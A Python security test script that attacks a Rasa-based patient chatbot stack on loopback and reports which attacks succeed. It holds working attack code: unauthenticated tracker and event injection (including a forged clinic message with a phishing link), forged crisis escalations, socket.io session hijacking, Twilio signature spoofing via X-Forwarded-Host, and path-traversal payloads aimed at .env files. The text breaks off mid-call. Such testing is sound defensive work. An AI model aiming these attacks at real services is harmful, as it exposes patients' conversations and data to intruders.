#!/usr/bin/env python3
"""White-box attack script for "TMS Assistant" (Rasa 3.6 + action server + aiohttp staff console).

Runs every attack once against a running stack and prints one line per attack:

    PASS <id> <what>                  the system resisted
    FAIL <id> <what> (evidence)       the attack worked
    SKIP <id> <what> (reason)         a prerequisite (credentials, VAR_DIR, ...) was not given

and a final line `N passed, M failed`. The exit code is always 0.

Only loopback targets are allowed: every URL must point at 127.0.0.1 / localhost / ::1, or the
script refuses to start. Request loops are bounded (a few dozen requests at most per attack).

Dependencies: requests, python-socketio 5.x (client), stdlib. sqlite3 is used read-only.

Example (see README.md):
    python attack.py --rasa http://127.0.0.1:17005 --web http://127.0.0.1:17080 \
        --actions http://127.0.0.1:17055 --var-dir /work/blind/attack-var \
        --staff-user pentest --staff-password '...' --api-token tms_... --log-file stack.log
"""
from __future__ import annotations

import argparse
import base64
import concurrent.futures as cf
import hashlib
import hmac
import json
import logging
import re
import select
import socket
import sqlite3
import stat
import subprocess
import sys
import time
import traceback
import uuid
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import requests

try:  # python-socketio 5.x
    import socketio
except ImportError:  # pragma: no cover
    socketio = None

LOOPBACK = {"127.0.0.1", "localhost", "::1", "[::1]"}
RUN = uuid.uuid4().hex[:8]  # makes every id this run creates unique
CRISIS_TEXT = "I am going to kill myself tonight, I have the pills ready"
VICTIM_PHONE = "+15551234567"


# ----------------------------------------------------------------------------------------- harness


class Harness:
    def __init__(self, args: argparse.Namespace) -> None:
        self.a = args
        self.rasa = args.rasa.rstrip("/")
        self.web = args.web.rstrip("/")
        self.actions = args.actions.rstrip("/")
        self.twilio = (args.twilio_url or self.rasa + "/webhooks/twilio/webhook").rstrip("/")
        self.t = args.timeout
        self.passed = 0
        self.failed = 0
        self.skipped = 0
        self.markers: list[str] = []  # PHI-like strings we sent, looked for in the logs at the end
        self.escalation_id: int | None = None
        self._staff: requests.Session | None = None
        self.seed = self.seed_text = self.crisis_sender = ""  # set by setup()
        self.forged_crisis_sender = ""  # set once a forged crisis action is accepted

    # --- reporting
    def ok(self, aid: str, what: str, note: str = "") -> None:
        self.passed += 1
        print(f"PASS {aid} {what}" + (f" [{note}]" if note else ""), flush=True)

    def bad(self, aid: str, what: str, evidence: str) -> None:
        self.failed += 1
        print(f"FAIL {aid} {what} ({evidence})", flush=True)

    def skip(self, aid: str, what: str, reason: str) -> None:
        self.skipped += 1
        print(f"SKIP {aid} {what} ({reason})", flush=True)

    def verdict(self, aid: str, what: str, failed: bool, evidence: str, note: str = "") -> None:
        if failed:
            self.bad(aid, what, evidence)
        else:
            self.ok(aid, what, note or evidence)

    # --- HTTP helpers
    def rest(self, sender, message, timeout: float | None = None, raw: bytes | None = None) -> requests.Response:
        body = raw if raw is not None else json.dumps({"sender": sender, "message": message}).encode()
        return requests.post(self.rasa + "/webhooks/rest/webhook", data=body,
                             headers={"Content-Type": "application/json"}, timeout=timeout or self.t)

    def hello_ok(self, limit: float = 2.0) -> tuple[bool, str]:
        """A normal user's "hello" is answered (200, a reply) within `limit` seconds."""
        t0 = time.monotonic()
        try:
            r = self.rest(f"hello-{RUN}-{uuid.uuid4().hex[:6]}", "hello", timeout=limit + 3)
            dt = time.monotonic() - t0
            good = r.status_code == 200 and bool(r.json()) and dt <= limit
            return good, f"hello -> {r.status_code} in {dt:.2f}s"
        except requests.RequestException as e:
            return False, f"hello failed after {time.monotonic() - t0:.2f}s: {type(e).__name__}"

    def wait_rasa(self, max_wait: float = 90.0) -> float:
        """Waits until Rasa answers its public health route `/` again (`/status` needs the API token since
        issue 10); returns how long that took."""
        t0 = time.monotonic()
        while time.monotonic() - t0 < max_wait:
            try:
                if requests.get(self.rasa + "/", timeout=2).ok:
                    return time.monotonic() - t0
            except requests.RequestException:
                pass
            time.sleep(1)
        return -1.0

    def settle(self, max_wait: float = 90.0) -> None:
        """Waits (bounded) until a hello is answered within 1 s again, so one attack's backlog does not
        count against the next."""
        t0 = time.monotonic()
        while time.monotonic() - t0 < max_wait:
            good, _ = self.hello_ok(1.0)
            if good:
                return
            time.sleep(1)

    def watch_down(self, seconds: float) -> tuple[int, float]:
        """Polls `/` every 0.25 s for `seconds`; returns (failed polls, time of the first failure)."""
        t0, failures, first = time.monotonic(), 0, -1.0
        while time.monotonic() - t0 < seconds:
            try:
                good = requests.get(self.rasa + "/", timeout=1).ok
            except requests.RequestException:
                good = False
            if not good:
                failures += 1
                if first < 0:
                    first = time.monotonic() - t0
                break
            time.sleep(0.25)
        return failures, first

    def tracker(self, conversation_id: str) -> dict | None:
        # Sanic does not percent-decode path parameters, so "+" must stay literal.
        r = requests.get(f"{self.rasa}/conversations/{conversation_id}/tracker", timeout=self.t)
        return r.json() if r.status_code == 200 else None

    def user_texts(self, conversation_id: str) -> list[tuple[str, str]]:
        tr = self.tracker(conversation_id) or {}
        return [(e.get("input_channel") or "", e.get("text") or "") for e in tr.get("events", []) if e.get("event") == "user"]

    # --- our database (read-only)
    def db(self) -> sqlite3.Connection | None:
        if not self.a.var_dir:
            return None
        path = Path(self.a.var_dir) / "tms_assistant.db"
        if not path.exists():
            return None
        return sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=5)

    def escalations_for(self, conversation_id: str) -> list[tuple] | None:
        conn = self.db()
        if conn is not None:
            try:
                return conn.execute("select id, category, priority, channel, recorded_by from escalations "
                                    "where conversation_id = ?", (conversation_id,)).fetchall()
            finally:
                conn.close()
        if self.a.api_token:
            r = requests.get(self.web + "/staff/api/escalations?status=all&limit=500&reveal=1",
                             headers={"Authorization": f"Bearer {self.a.api_token}"}, timeout=self.t)
            if r.ok:
                return [(e["id"], e["category"], e["priority"], e["channel"], "?") for e in r.json()["escalations"]
                        if e["conversation_id"] == conversation_id]
        return None

    # --- staff console
    def staff_login(self, user: str, password: str, next_: str | None = None, headers: dict | None = None,
                    session: requests.Session | None = None) -> tuple[requests.Session, requests.Response]:
        s = session or requests.Session()
        g = s.get(self.web + "/staff/login", timeout=self.t, headers=headers or {})
        m = re.search(r"staff_login_csrf=([^;]+)", g.headers.get("Set-Cookie", ""))
        token = m.group(1) if m else (s.cookies.get("staff_login_csrf") or "")
        form = {"csrf_token": token, "username": user, "password": password}
        if next_ is not None:
            form["next"] = next_
        # Sent by hand: with X-Forwarded-Proto: https the cookie is Secure and requests would not send it over http.
        post_headers = {**(headers or {}), "Cookie": f"staff_login_csrf={token}"}
        r = s.post(self.web + "/staff/login", data=form, allow_redirects=False, timeout=self.t + 10, headers=post_headers)
        return s, r

    def staff(self) -> requests.Session | None:
        if self._staff is None and self.a.staff_user and self.a.staff_password:
            s, r = self.staff_login(self.a.staff_user, self.a.staff_password)
            if r.status_code == 303 and s.cookies.get("staff_session"):
                self._staff = s
        return self._staff


def loopback_only(*urls: str) -> None:
    for url in urls:
        if url and urlsplit(url).hostname not in {h.strip("[]") for h in LOOPBACK}:
            sys.exit(f"refusing non-loopback target {url!r}: this script only attacks 127.0.0.1")


def port_of(url: str) -> int:
    p = urlsplit(url)
    return p.port or (443 if p.scheme == "https" else 80)


def twilio_signature(token: str, url: str, params: dict[str, str]) -> str:
    """Twilio: base64(HMAC-SHA1(token, url + key1 + value1 + key2 + value2 ... sorted by key))."""
    data = url + "".join(k + params[k] for k in sorted(params))
    return base64.b64encode(hmac.new(token.encode(), data.encode("utf-8"), hashlib.sha1).digest()).decode()


def raw_post(url: str, total: int, ctype: str, headers: dict[str, str] | None = None, chunk: int = 65536,
             timeout: float = 60) -> dict:
    """Streams a `total`-byte body and notes whether the server answered (or cut us off) before the end."""
    p = urlsplit(url)
    s = socket.create_connection((p.hostname, p.port or 80), timeout=timeout)
    extra = "".join(f"{k}: {v}\r\n" for k, v in (headers or {}).items())
    head = (f"POST {p.path or '/'} HTTP/1.1\r\nHost: {p.netloc}\r\nContent-Type: {ctype}\r\n{extra}"
            f"Content-Length: {total}\r\nConnection: close\r\n\r\n").encode()
    block = (b"Body=" + b"A" * chunk)[:chunk]
    t0 = time.monotonic()
    sent, early, err = 0, False, ""
    try:
        s.sendall(head)
        while sent < total:
            readable, _, _ = select.select([s], [], [], 0)
            if readable:
                early = True
                break
            n = min(chunk, total - sent)
            s.sendall(block[:n])
            sent += n
    except OSError as e:  # reset / broken pipe: the server stopped reading
        early, err = True, type(e).__name__
    sent_at = time.monotonic() - t0
    resp = b""
    try:
        while len(resp) < 2048:
            b = s.recv(4096)
            if not b:
                break
            resp += b
    except OSError:
        pass
    s.close()
    m = re.match(rb"HTTP/1\.[01] (\d{3})", resp)
    return {"sent": sent, "early": early, "status": int(m.group(1)) if m else None, "seconds": time.monotonic() - t0,
            "upload_seconds": sent_at, "error": err}


def sio_client(h: Harness, events: dict, key: str, session_id: str):
    """A socket.io client that joins `session_id` (Rasa's session_persistence) and records bot_uttered."""
    client = socketio.Client(reconnection=False, logger=False, engineio_logger=False)
    events.setdefault(key, [])

    @client.on("bot_uttered")
    def _bot(data):  # noqa: ANN001
        events[key].append(data)

    @client.on("session_confirm")
    def _confirm(data):  # noqa: ANN001
        events[key + ":confirm"] = data

    try:
        import websocket  # noqa: F401
        transports = ["websocket"]
    except ImportError:
        transports = ["polling"]
    client.connect(h.rasa, transports=transports, socketio_path="/socket.io", wait_timeout=h.t)
    client.emit("session_request", {"session_id": session_id})
    deadline = time.monotonic() + h.t
    while key + ":confirm" not in events and time.monotonic() < deadline:
        time.sleep(0.05)
    return client


def wait_for(events: dict, key: str, count: int, timeout: float) -> float | None:
    t0 = time.monotonic()
    while time.monotonic() - t0 < timeout:
        if len(events.get(key, [])) >= count:
            return time.monotonic() - t0
        time.sleep(0.02)
    return None


# ----------------------------------------------------------------------------------------- setup


def setup(h: Harness) -> None:
    """Creates the conversations and one escalation the other attacks use."""
    h.seed = f"seed-{RUN}"
    h.seed_text = f"pentest seed {RUN} what is tms"
    h.markers += [h.seed_text]
    try:
        h.rest(h.seed, "hello")
        h.rest(h.seed, h.seed_text)
        # A crisis turn so that escalation 1 exists on a fresh database (the full-width digit attacks target it).
        h.crisis_sender = f"crisis-{RUN}"
        h.rest(h.crisis_sender, CRISIS_TEXT, timeout=30)
        time.sleep(1.0)
        rows = h.escalations_for(h.crisis_sender)
        h.escalation_id = rows[0][0] if rows else None
    except requests.RequestException as e:
        print(f"# setup problem: {type(e).__name__}: {e}", flush=True)


# ----------------------------------------------------------------------------------------- Rasa HTTP API


def rasa_api(h: Harness) -> None:
    # Tracker read
    aid, what = "RASA-TRACKER-READ", "unauthenticated GET /conversations/{id}/tracker of an existing conversation"
    r = requests.get(f"{h.rasa}/conversations/{h.seed}/tracker", timeout=h.t)
    leaked = r.status_code == 200 and h.seed_text in r.text
    h.verdict(aid, what, leaked, f"HTTP {r.status_code}, transcript with the user's message text returned"
              if leaked else f"HTTP {r.status_code}")

    # Append a slot event: silences the bot for this conversation (handoff_active without any staff)
    aid, what = "RASA-EVENTS-SLOT", "unauthenticated POST /conversations/{id}/tracker/events sets handoff_active (bot goes silent)"
    victim = f"slotvictim-{RUN}"
    h.rest(victim, "hello")
    r = requests.post(f"{h.rasa}/conversations/{victim}/tracker/events",
                      json=[{"event": "slot", "name": "handoff_active", "value": True, "timestamp": time.time()}], timeout=h.t)
    after = h.rest(victim, "what is tms")
    silent = after.status_code == 200 and after.json() == []
    slot = ((h.tracker(victim) or {}).get("slots") or {}).get("handoff_active")
    h.verdict(aid, what, r.status_code < 300 and (slot is True or silent),
              f"HTTP {r.status_code}; slot handoff_active={slot}; bot reply afterwards: {after.text[:60]!r}"
              if r.status_code < 300 else "", note=f"HTTP {r.status_code}")

    # Append a bot event (fake "clinic" message in the transcript, pushed to the user's channel with output_channel)
    aid, what = "RASA-EVENTS-BOT", "unauthenticated POST /conversations/{id}/tracker/events appends a forged bot message"
    fake = f"Clinic notice {RUN}: confirm your insurance at http://evil.example/pay"
    r = requests.post(f"{h.rasa}/conversations/{h.seed}/tracker/events",
                      json=[{"event": "bot", "text": fake, "timestamp": time.time(),
                             "metadata": {"sent_by": "staff", "staff": "dr-house"}}],
                      timeout=h.t)
    stored = any(e.get("event") == "bot" and e.get("text") == fake for e in (h.tracker(h.seed) or {}).get("events", []))
    h.verdict(aid, what, r.status_code < 300 and stored,
              f"HTTP {r.status_code}; forged bot/staff turn stored in the transcript", note=f"HTTP {r.status_code}")

    # Execute an action
    aid, what = "RASA-EXECUTE", "unauthenticated POST /conversations/{id}/execute runs an action"
    r = requests.post(f"{h.rasa}/conversations/{h.seed}/execute", json={"name": "utter_greet"}, timeout=h.t)
    h.verdict(aid, what, r.status_code == 200, f"HTTP {r.status_code}, utter_greet executed: {r.text[:80]!r}",
              note=f"HTTP {r.status_code}")

    # PUT /model: a path that does not exist, so the running model is kept whatever happens
    aid, what = "RASA-PUT-MODEL", "unauthenticated PUT /model (model replacement) is reachable"
    r = requests.put(h.rasa + "/model", json={"model_file": f"/nonexistent/pentest-{RUN}.tar.gz"}, timeout=60)
    h.verdict(aid, what, r.status_code not in (401, 403, 404, 405),
              f"HTTP {r.status_code} (not 401/403): handler ran and tried to load the file: {r.text[:90]!r}",
              note=f"HTTP {r.status_code}")

    # POST /model/train: invalid YAML, so nothing is trained
    aid, what = "RASA-TRAIN", "unauthenticated POST /model/train is reachable"
    r = requests.post(h.rasa + "/model/train", data=b"pipeline: [\n  : : not yaml",
                      headers={"Content-Type": "application/x-yaml"}, timeout=60)
    h.verdict(aid, what, r.status_code not in (401, 403, 404, 405),
              f"HTTP {r.status_code} (not 401/403): training handler parsed the body: {r.text[:90]!r}",
              note=f"HTTP {r.status_code}")

    # GET /domain
    aid, what = "RASA-DOMAIN", "unauthenticated GET /domain"
    r = requests.get(h.rasa + "/domain", headers={"Accept": "application/json"}, timeout=h.t)
    h.verdict(aid, what, r.status_code == 200, f"HTTP {r.status_code}, {len(r.content)} bytes of domain "
              "(responses, slots, clinic details, action names)", note=f"HTTP {r.status_code}")

    # CORS
    aid, what = "RASA-CORS", "Rasa API answers a foreign Origin (https://evil.example) with Access-Control-Allow-Origin"
    r = requests.get(f"{h.rasa}/conversations/{h.seed}/tracker", headers={"Origin": "https://evil.example"}, timeout=h.t)
    acao = r.headers.get("Access-Control-Allow-Origin")
    acac = r.headers.get("Access-Control-Allow-Credentials")
    h.verdict(aid, what, acao in ("*", "https://evil.example"),
              f"Access-Control-Allow-Origin: {acao}, Allow-Credentials: {acac} on the tracker endpoint",
              note=f"ACAO={acao}")


# ----------------------------------------------------------------------------------------- interfaces


def listeners(port: int) -> list[str]:
    addrs: list[str] = []
    try:
        out = subprocess.run(["ss", "-Hltn"], capture_output=True, text=True, timeout=10).stdout
        for line in out.splitlines():
            parts = line.split()
            if len(parts) >= 4:
                local = parts[3]
                host, _, p = local.rpartition(":")
                if p == str(port):
                    addrs.append(host)
        return addrs
    except (OSError, subprocess.SubprocessError):
        pass
    for name, v6 in (("/proc/net/tcp", False), ("/proc/net/tcp6", True)):  # fallback: state 0A = LISTEN
        try:
            for line in Path(name).read_text().splitlines()[1:]:
                f = line.split()
                ip, p = f[1].split(":")
                if f[3] == "0A" and int(p, 16) == port:
                    addrs.append(("::" if set(ip) == {"0"} else ip) if v6 else ("0.0.0.0" if set(ip) == {"0"} else ip))
        except OSError:
            pass
    return addrs


def interfaces(h: Harness) -> None:
    for name, url in (("RASA", h.rasa), ("ACTIONS", h.actions), ("WEB", h.web)):
        port = port_of(url)
        aid, what = f"LISTEN-{name}", f"{name.lower()} port {port} listens on loopback only"
        addrs = listeners(port)
        wild = [a for a in addrs if a in ("0.0.0.0", "*", "[::]", "::", "[::ffff:0.0.0.0]")]
        if not addrs:
            h.skip(aid, what, "no listener found with ss or /proc/net")
            continue
        h.verdict(aid, what, bool(wild), f"listening on {', '.join(addrs)}: reachable from other hosts",
                  note=f"listening on {', '.join(addrs)}")


# ----------------------------------------------------------------------------------------- action server


def forged_tracker(sender: str, text: str, slots: dict, channel: str = "twilio") -> dict:
    mid = f"forged-{uuid.uuid4().hex[:10]}"
    return {
        "sender_id": sender, "slots": slots,
        "latest_message": {"text": text, "message_id": mid, "intent": {"name": "crisis", "confidence": 1.0}, "entities": []},
        "events": [{"event": "user", "timestamp": time.time(), "text": text, "message_id": mid,
                    "input_channel": channel, "parse_data": {}}],
        "paused": False, "followup_action": None, "active_loop": {}, "latest_action_name": "action_listen",
        "latest_input_channel": channel,
    }


def action_server(h: Harness) -> None:
    for action, aid in (("action_escalate_crisis", "ACTIONS-FORGE-CRISIS"), ("action_request_staff", "ACTIONS-FORGE-STAFF")):
        what = f"unauthenticated POST {{actions}}/webhook next_action={action} with an invented tracker creates an escalation"
        sender = f"forged-{action[7:13]}-{RUN}"
        payload = {"next_action": action, "sender_id": sender, "version": "3.6.0", "domain": {},
                   "tracker": forged_tracker(sender, f"forged {RUN} <script>alert('x')</script>", {"crisis_category": "imminent"})}
        try:
            r = requests.post(h.actions + "/webhook", json=payload, timeout=h.t)
        except requests.RequestException as e:
            h.ok(aid, what, f"request refused: {type(e).__name__}")
            continue
        time.sleep(0.3)
        rows = h.escalations_for(sender)
        if rows is None:
            h.verdict(aid, what, r.status_code == 200,
                      f"HTTP {r.status_code} {r.text[:60]!r} (database not checked: no --var-dir/--api-token)",
                      note=f"HTTP {r.status_code}")
        else:
            h.verdict(aid, what, bool(rows), f"HTTP {r.status_code}; escalation row(s) {rows} for the invented conversation",
                      note=f"HTTP {r.status_code}, no escalation row")
        if action == "action_escalate_crisis":
            h.forged_crisis_sender = sender

    aid, what = ("ACTIONS-FORGE-PRESCREEN",
                 "forged action_prescreen_finish stores a pre-screen with invented answers/contact for staff to call")
    sender = f"forged-prescreen-{RUN}"
    slots = {"prescreen_status": "in_progress", "prescreen_started_at": "2026-01-01T00:00:00",
             "prescreen_contact_method": "call", "prescreen_contact_name": f"Pentest {RUN}",
             "prescreen_contact_phone": "+15550009999", "prescreen_age": 40}
    payload = {"next_action": "action_prescreen_finish", "sender_id": sender, "version": "3.6.0", "domain": {},
               "tracker": forged_tracker(sender, "done", slots, channel="socketio")}
    r = requests.post(h.actions + "/webhook", json=payload, timeout=h.t)
    conn = h.db()
    if conn is None:
        h.verdict(aid, what, r.status_code == 200, f"HTTP {r.status_code} {r.text[:80]!r} (database not checked)",
                  note=f"HTTP {r.status_code}")
    else:
        try:
            rows = conn.execute("select id, outcome, contact_phone from prescreens where conversation_id = ?", (sender,)).fetchall()
        finally:
            conn.close()
        h.verdict(aid, what, bool(rows), f"HTTP {r.status_code}; pre-screen row(s) {rows}", note=f"HTTP {r.status_code}, no row")


# ----------------------------------------------------------------------------------------- cross-channel ids


def cross_channel(h: Harness) -> None:
    # SMS conversation (signed webhook) continued over REST with the phone number as sender
    aid, what = "XCHAN-REST-SMS", "REST sender equal to an SMS phone number continues that SMS conversation"
    phone = "+1555" + str(int(RUN, 16) % 10**7).zfill(7)
    sms_text = f"sms secret {RUN}"
    h.markers += [phone, sms_text]
    form = {"From": phone, "To": h.a.twilio_number, "Body": sms_text, "MessageSid": f"SM{RUN}xchan"}
    try:
        rs = requests.post(h.twilio, data=form, headers={"X-Twilio-Signature": twilio_signature(h.a.twilio_token, h.twilio, form)},
                           timeout=h.t + 20)
        h.rest(phone, f"rest intruder {RUN}")
        texts = h.user_texts(phone)
        chans = sorted({c for c, _ in texts})
        joined = "twilio" in chans and "rest" in chans
        h.verdict(aid, what, joined, f"SMS webhook {rs.status_code}; one tracker holds channels {chans}: {texts[:3]}",
                  note=f"channels {chans}")
    except requests.RequestException as e:
        h.skip(aid, what, f"could not create the SMS conversation: {type(e).__name__}")

    aid, what = "XCHAN-REST-PHONE", f"REST sender {VICTIM_PHONE} (phone-shaped id) is accepted and shares the phone's conversation"
    r = h.rest(VICTIM_PHONE, f"my name is Victim {RUN} and I want TMS")
    h.markers.append(f"Victim {RUN}")
    h.verdict(aid, what, r.status_code == 200, f"HTTP {r.status_code}: REST accepts phone-number sender ids, so "
              "the same id space as SMS conversations is writable from the web", note=f"HTTP {r.status_code}")

    if socketio is None:
        h.skip("SIO-HIJACK-JOIN", "socket.io session_request with a chosen id", "python-socketio not installed")
        h.skip("SIO-HIJACK-RECEIVE", "socket.io eavesdropping", "python-socketio not installed")
        return
    aid, what = "SIO-HIJACK-JOIN", f"socket.io session_request with chosen session_id {VICTIM_PHONE} joins the existing (REST) conversation"
    events: dict = {}
    try:
        c = sio_client(h, events, "att", VICTIM_PHONE)
        c.emit("user_uttered", {"message": f"attacker via socket {RUN}", "session_id": VICTIM_PHONE})
        wait_for(events, "att", 1, h.t)
        texts = h.user_texts(VICTIM_PHONE)
        chans = sorted({ch for ch, _ in texts})
        joined = events.get("att:confirm") == VICTIM_PHONE and "rest" in chans and "socketio" in chans
        h.verdict(aid, what, joined, f"session_confirm={events.get('att:confirm')!r}; tracker {VICTIM_PHONE} now has channels {chans}",
                  note=f"confirm={events.get('att:confirm')!r}, channels {chans}")
        c.disconnect()
    except Exception as e:  # noqa: BLE001
        h.ok(aid, what, f"connection refused: {type(e).__name__}: {e}")

    aid, what = "SIO-HIJACK-RECEIVE", "a second socket.io client joining the same chosen session_id receives the victim's bot replies"
    events = {}
    try:
        victim = sio_client(h, events, "victim", VICTIM_PHONE)
        attacker = sio_client(h, events, "attacker", VICTIM_PHONE)
        victim.emit("user_uttered", {"message": "does tms hurt", "session_id": VICTIM_PHONE})
        wait_for(events, "victim", 1, h.t)
        wait_for(events, "attacker", 1, 2)
        got = events.get("attacker", [])
        h.verdict(aid, what, bool(got), f"attacker socket received {len(got)} bot message(s) meant for the victim: "
                  f"{(got[0].get('text') or '')[:50]!r}" if got else "", note="attacker received nothing")
        victim.disconnect()
        attacker.disconnect()
    except Exception as e:  # noqa: BLE001
        h.ok(aid, what, f"connection refused: {type(e).__name__}: {e}")


# ----------------------------------------------------------------------------------------- Twilio webhook


def twilio(h: Harness) -> None:
    url, token = h.twilio, h.a.twilio_token
    phone = "+1555" + str((int(RUN, 16) + 17) % 10**7).zfill(7)

    aid, what = "TWILIO-UNSIGNED", "unsigned Twilio webhook request is refused with 403"
    form = {"From": phone, "To": h.a.twilio_number, "Body": "unsigned hello", "MessageSid": f"SM{RUN}u"}
    r = requests.post(url, data=form, timeout=h.t)
    r2 = requests.post(url, data=form, headers={"X-Twilio-Signature": "AAAAAAAAAAAAAAAAAAAAAAAAAAA="}, timeout=h.t)
    h.verdict(aid, what, not (r.status_code == 403 and r2.status_code == 403),
              f"no signature -> {r.status_code}, bad signature -> {r2.status_code}", note=f"{r.status_code}/{r2.status_code}")

    aid, what = "TWILIO-BIGBODY", "20 MB unsigned Twilio body is cut off before it is read in full"
    try:
        res = raw_post(url, 20 * 1024 * 1024, "application/x-www-form-urlencoded")
        h.verdict(aid, what, not res["early"] and res["sent"] >= 20 * 1024 * 1024,
                  f"server read all {res['sent'] // 1048576} MB (upload {res['upload_seconds']:.2f}s) before answering "
                  f"{res['status']} after {res['seconds']:.2f}s; no size limit before the signature check",
                  note=f"stopped after {res['sent']} bytes, status {res['status']}, {res['seconds']:.2f}s {res['error']}")
    except OSError as e:
        h.ok(aid, what, f"connection refused early: {type(e).__name__}")

    aid, what = ("TWILIO-XFH-SPOOF",
                 "signature over an attacker-chosen URL via X-Forwarded-Host/Proto (TWILIO_WEBHOOK_URL unset) is accepted")
    path = urlsplit(url).path
    evil_url = f"https://evil.example{path}"
    form = {"From": phone, "To": h.a.twilio_number, "Body": f"spoofed host {RUN}", "MessageSid": f"SM{RUN}xfh"}
    r = requests.post(url, data=form, timeout=h.t + 20, headers={
        "X-Twilio-Signature": twilio_signature(token, evil_url, form),
        "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https"})
    processed = any(t == f"spoofed host {RUN}" for _, t in h.user_texts(phone))
    h.verdict(aid, what, r.status_code == 200 or processed,
              f"HTTP {r.status_code}; message {'processed' if processed else 'not in tracker'}: the server trusts client-supplied "
              f"X-Forwarded-Host and validated a signature made for {evil_url}", note=f"HTTP {r.status_code}")

    aid, what = "TWILIO-REPLAY-NOSID", "a signed request without MessageSid replayed twice is processed only once"
    body = f"replay {RUN}"
    form = {"From": phone, "To": h.a.twilio_number, "Body": body}
    sig = twilio_signature(token, url, form)
    codes = [requests.post(url, data=form, headers={"X-Twilio-Signature": sig}, timeout=h.t + 20).status_code for _ in range(2)]
    n = sum(1 for _, t in h.user_texts(phone) if t == body)
    h.verdict(aid, what, n >= 2, f"HTTP {codes}; the same signed message is in the tracker {n} times (no replay protection "
              "without MessageSid, and none by timestamp)", note=f"HTTP {codes}, stored {n}x")

    aid, what = "TWILIO-REPLAY-SID", "a signed request with the same MessageSid replayed twice is processed only once"
    body = f"replay sid {RUN}"
    form = {"From": phone, "To": h.a.twilio_number, "Body": body, "MessageSid": f"SM{RUN}rep"}
    sig = twilio_signature(token, url, form)
    codes = [requests.post(url, data=form, headers={"X-Twilio-Signature": sig}, timeout=h.t + 20).status_code for _ in range(2)]
    n = sum(1 for _, t in h.user_texts(phone) if t == body)
    h.verdict(aid, what, n >= 2, f"HTTP {codes}; stored {n}x", note=f"HTTP {codes}, stored {n}x")


# ----------------------------------------------------------------------------------------- staff console


def set_cookie_flags(resp: requests.Response, name: str) -> str | None:
    for raw in resp.raw.headers.getlist("Set-Cookie") if hasattr(resp.raw.headers, "getlist") else []:
        if raw.startswith(name + "="):
            return "; ".join(p.strip() for p in raw.split(";")[1:])
    return None


def staff_console(h: Harness) -> None:
    web = h.web
    # Unauthenticated pages
    aid, what = "STAFF-UNAUTH-PAGES", "unauthenticated GET of /staff pages redirects to sign-in"
    leaks = []
    for path in ("/staff", "/staff/", "/staff/escalations/1", "/staff/prescreens", "/staff/prescreens/1",
                 "/staff/admin/users", "/staff/audit"):
        r = requests.get(web + path, allow_redirects=False, timeout=h.t)
        if not (r.status_code in (302, 303) and "/staff/login" in r.headers.get("Location", "")):
            leaks.append(f"{path}->{r.status_code}")
    for path in ("/staff/escalations/1/status", "/staff/escalations/1/take-over", "/staff/admin/users"):
        r = requests.post(web + path, data={"status": "resolved"}, allow_redirects=False, timeout=h.t)
        if r.status_code not in (302, 303, 401, 403):
            leaks.append(f"POST {path}->{r.status_code}")
    h.verdict(aid, what, bool(leaks), "; ".join(leaks))

    aid, what = "STAFF-UNAUTH-API", "unauthenticated /staff/api routes answer 401"
    leaks = []
    for path in ("/staff/api/escalations", "/staff/api/escalations/1", "/staff/api/prescreens",
                 "/staff/api/queue-count", "/staff/api/escalations/1/turn-count"):
        for hdr in ({}, {"Authorization": "Bearer tms_invalid"}, {"Authorization": "Bearer "}):
            r = requests.get(web + path, headers=hdr, allow_redirects=False, timeout=h.t)
            if r.status_code != 401:
                leaks.append(f"{path} {hdr or ''}->{r.status_code}")
    h.verdict(aid, what, bool(leaks), "; ".join(leaks[:6]))

    aid, what = "STAFF-AUTH-BYPASS-PATH", "path tricks (/staff/static/.., case, double slash, encoded) do not bypass sign-in"
    leaks = []
    for path in ("/staff/static/../escalations/1", "/staff/static/%2e%2e/escalations/1", "/staff/static/..%2fescalations/1",
                 "//staff/escalations/1", "/STAFF/escalations/1", "/staff/escalations/1/", "/staff%2fescalations/1",
                 "/staff/static/../api/escalations"):
        try:
            r = requests.get(web + path, allow_redirects=False, timeout=h.t)
        except requests.RequestException as e:
            leaks.append(f"{path}->{type(e).__name__}")
            continue
        if r.status_code == 200 and ("Escalation" in r.text or "escalations" in r.text) or r.status_code >= 500:
            leaks.append(f"{path}->{r.status_code}")
    h.verdict(aid, what, bool(leaks), "; ".join(leaks))

    aid, what = "STATIC-TRAVERSAL", "path traversal on /static and /staff/static does not serve source files"
    leaks = []
    for path in ("/static/../app.py", "/static/%2e%2e/app.py", "/static/..%2fapp.py", "/static/%2e%2e/%2e%2e/config.py",
                 "/staff/static/../web.py", "/staff/static/%2e%2e/web.py", "/staff/static/..%2f..%2fconfig.py",
                 "/static/%2e%2e%2f%2e%2e%2f%2e%2e%2f.env", "/staff/static/%2e%2e/%2e%2e/%2e%2e/.env"):
        try:
            r = requests.get(web + path, allow_redirects=False, timeout=h.t)
        except requests.RequestException:
            continue
        if r.status_code == 200 and ("import " in r.text or "def " in r.text or "TWILIO" in r.text):
            leaks.append(f"{path}->200 ({len(r.content)} bytes)")
    h.verdict(aid, what, bool(leaks), "; ".join(leaks))

    # Cookie flags
    aid, what = "STAFF-COOKIE-FLAGS", "console cookies are HttpOnly+SameSite, and Secure behind https (X-Forwarded-Proto)"
    r = requests.get(web + "/staff/login", timeout=h.t)
    plain = set_cookie_flags(r, "staff_login_csrf")
    r = requests.get(web + "/staff/login", headers={"X-Forwarded-Proto": "https"}, timeout=h.t)
    https = set_cookie_flags(r, "staff_login_csrf")
    session_flags = None
    if h.a.staff_user and h.a.staff_password:
        _, lr = h.staff_login(h.a.staff_user, h.a.staff_password, headers={"X-Forwarded-Proto": "https"})
        session_flags = set_cookie_flags(lr, "staff_session")
    problems = []
    for label, flags, need_secure in (("login_csrf/http", plain, False), ("login_csrf/https", https, True),
                                      ("staff_session/https", session_flags, True)):
        if flags is None:
            continue
        low = flags.lower()
        if "httponly" not in low or "samesite" not in low or (need_secure and "secure" not in low):
            problems.append(f"{label}: {flags}")
    h.verdict(aid, what, bool(problems), "; ".join(problems),
              note=f"http csrf cookie: {plain}; https csrf cookie: {https}; https session cookie: {session_flags or 'n/a'} "
                   "(on plain http no Secure flag)")

    # Brute force
    aid, what = "STAFF-LOGIN-THROTTLE-USER", "20 wrong passwords for one (made-up) username are throttled"
    user_a = f"ghost-a-{RUN}"
    codes = [h.staff_login(user_a, f"wrong-password-{i}")[1].status_code for i in range(20)]
    checked = codes.count(401)
    h.verdict(aid, what, 429 not in codes or checked > 5, f"{checked} password checks, codes {codes}",
